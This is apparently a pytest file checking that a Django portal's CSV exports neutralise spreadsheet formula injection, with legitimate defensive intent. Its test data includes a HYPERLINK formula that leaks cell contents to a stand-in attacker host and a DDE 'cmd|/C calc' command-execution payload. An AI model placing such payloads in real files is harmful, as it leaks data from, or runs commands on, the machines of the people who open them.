"""Every CSV file the portal writes goes through biofm_site.csvfile: a text cell
a spreadsheet would run as a formula comes out inert (a leading quote, the cell
quoted), and numbers stay numbers. Checked on the writer itself, then on each
CSV output with a record named like a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from biofm_site.csvfile import csv_text, dict_csv_text
from design.models import ShortlistEntry
from tests.conftest import run_job_now
from tests.esm_fixtures import write_tiny_esm2
from workers import lifecycle
from workers.models import Job, Status

# A record name that a spreadsheet would turn into a link (and could make run
# more, with DDE): the attack OWASP's "CSV Injection" page describes.
FORMULA = '=HYPERLINK("http://attacker.test/?leak="&A1,"click")'


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def line_of(text: str, needle: str) -> str:
    (line,) = [line for line in text.splitlines() if needle in line]
    return line


# --------------------------------------------------------------- the writer

@pytest.mark.parametrize("cell", [FORMULA, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)",
                                  "\t=1+1", "\r=1+1", "-", "=", "-0.5 -0.7", "-1,5"])
def test_cells_a_spreadsheet_would_run_get_a_quote_and_are_quoted(cell):
    text = csv_text(["name", "n"], [[cell, 1]])
    assert parse(text)[1] == ["'" + cell, "1"]
    # The neutralised cell is written quoted, the number beside it is not.
    body = text.split("\n", 1)[1]
    assert body.startswith("\"'") and body.rstrip("\n").endswith(",1")


@pytest.mark.parametrize("value, written", [
    (-0.5, "-0.5"), (-3, "-3"), (+2.5e-7, "2.5e-07"), ("-0.5", "-0.5"), ("+12", "+12"), ("-1e-3", "-1e-3"),
    ("-.5", "-.5"), (None, ""), (True, "True"),
])
def test_numbers_stay_numbers(value, written):
    text = csv_text(["x", "y"], [[value, "z"]])
    assert text == f"x,y\n{written},z\n"


@pytest.mark.parametrize("cell", ["ethanol", "a, b", 'say "hi"', "two\nlines", "x=1", "e-mail", " =1"])
def test_other_text_is_written_as_it_is(cell):
    assert parse(csv_text(["name"], [[cell]]))[1] == [cell]


def test_header_and_dict_rows_are_guarded_too():
    text = dict_csv_text(["id", "@note"], [{"id": "-x", "@note": -1.25}, {"id": "ok"}])
    assert parse(text) == [["id", "'@note"], ["'-x", "-1.25"], ["ok", ""]]


# --------------------------------------------------------------- each output

def download(client, job, name) -> str:
    response = client.get(reverse("job_download", args=[job.pk, name]))
    assert response.status_code == 200, name
    return b"".join(response.streaming_content).decode()


def run(job) -> Job:
    run_job_now(job)
    job.refresh_from_db()
    assert job.status == Status.SUCCEEDED, job.error_message
    return job


@pytest.mark.django_db(transaction=True)
def test_protparam_and_rejected_records_csv(alice_client, user):
    fasta = (f">{FORMULA} @description\nMKTAYIAKQRQISFVKSHFSRQ\n"
             ">-2+3+cmd|'/Ccalc'!A0\nMKT1AYZKQR\n"  # rejected: a digit is not a residue
             ">acid\nDDDDEEEEDDEE\n")
    job = run(lifecycle.submit(user, "analysis.protparam", {"fasta": fasta}))
    table = download(alice_client, job, "protparam.csv")
    rows = {r[0]: r for r in parse(table)[1:]}
    assert set(rows) == {"'" + FORMULA, "acid"}
    header = parse(table)[0]
    formula_row = dict(zip(header, rows["'" + FORMULA]))
    assert formula_row["Description"] == "'@description"
    # A negative charge is a number in the file, not a guarded text.
    acid = dict(zip(header, rows["acid"]))
    assert float(acid["Net charge at pH 7 (e)"]) < 0 and not acid["Net charge at pH 7 (e)"].startswith("'")
    assert line_of(table, "acid").split(",")[header.index("Net charge at pH 7 (e)")] == acid["Net charge at pH 7 (e)"]

    rejected = parse(download(alice_client, job, "rejected_records.csv"))
    assert rejected[0] == ["record", "id", "field", "message"]
    assert rejected[1][:2] == ["2", "'-2+3+cmd|'/Ccalc'!A0"]


@pytest.mark.django_db(transaction=True)
def test_esm_summary_csv(api, user, tmp_path_factory, settings):
    hub = tmp_path_factory.mktemp("hub")
    model = "esm2_t6_8M_UR50D"  # the name; the weights are a tiny random stand-in
    write_tiny_esm2(hub, name=model, num_layers=6, embed_dim=32, heads=4, seed=1)
    settings.BIOFM_ESM_WEIGHTS_DIR = str(hub / "checkpoints")
    settings.BIOFM_ESM_ALLOW_DOWNLOAD = False
    response = api.post("/api/v1/esm/embeddings", {
        "model": model, "fasta": f">{FORMULA} +SUM(1)\nMKTAYIAKQR\n>plain\nMKTAYIAKQR\n"},
        content_type="application/json")
    assert response.status_code == 202, response.content
    job = run(Job.objects.get(pk=response.json()["id"]))
    api.force_login(user)
    rows = parse(download(api, job, "summary.csv"))
    assert rows[0][:3] == ["id", "description", "length"]
    assert rows[1][:3] == ["'" + FORMULA, "'+SUM(1)", "10"]
    assert rows[2][:3] == ["plain", "", "10"]


@pytest.mark.django_db(transaction=True)
def test_design_properties_and_invalid_rows_csv(alice_client, user):
    upload = io.StringIO()
    csv.writer(upload).writerows([
        ["smiles", "name"],
        ["OCC1OC(O)C(O)C(O)C1O", "=glucose"],  # a negative logP
        ["CCO", FORMULA],
        ["[AlH3](O)(O)O", "@aluminium"],  # RDKit refuses its valence
    ])
    molecules = upload.getvalue()
    job = run(lifecycle.submit(user, "design.properties", {"molecules": molecules}))
    table = download(alice_client, job, "properties.csv")
    header, *rows = parse(table)
    by_name = {row[header.index("name")]: dict(zip(header, row)) for row in rows}
    assert set(by_name) == {"'=glucose", "'" + FORMULA, "'@aluminium"}
    clogp = by_name["'=glucose"]["clogp"]
    assert float(clogp) < 0 and not clogp.startswith("'")
    invalid = parse(download(alice_client, job, "invalid_rows.csv"))
    assert invalid[0] == ["row", "name", "input", "error"]
    assert invalid[1][1] == "'@aluminium"
    # The API's CSV download is the same file.
    api_csv = alice_client.get(f"/api/v1/design/jobs/{job.pk}/results", {"format": "csv"})
    assert b"".join(api_csv.streaming_content).decode() == table


@pytest.mark.django_db
def test_shortlist_export_csv(alice_client, user):
    ShortlistEntry.objects.create(owner=user, smiles="CCO", name=FORMULA, note="-1+1", scores={"clogp": -0.0014})
    ShortlistEntry.objects.create(owner=user, smiles="c1ccccc1O", name="phenol", note="ok", scores={"clogp": 1.39})
    text = alice_client.get(reverse("design:shortlist_export", args=["csv"])).content.decode()
    header, *rows = parse(text)
    assert header == ["name", "smiles", "note", "source_job", "clogp"]
    assert sorted(rows) == sorted([["'" + FORMULA, "CCO", "'-1+1", "", "-0.0014"],
                                   ["phenol", "c1ccccc1O", "ok", "", "1.39"]])
    assert line_of(text, "phenol") == "phenol,c1ccccc1O,ok,,1.39"
